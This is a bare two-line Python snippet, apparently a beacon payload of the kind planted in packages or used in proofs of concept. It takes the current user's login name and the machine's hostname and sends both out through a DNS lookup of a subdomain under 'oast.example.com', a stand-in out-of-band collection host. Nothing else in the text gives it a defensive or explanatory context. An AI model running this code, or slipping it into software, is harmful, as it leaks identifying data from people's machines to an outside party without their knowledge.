import socket, os, getpass
socket.gethostbyname("%s.%s.oast.example.com" % (getpass.getuser(), socket.gethostname()))
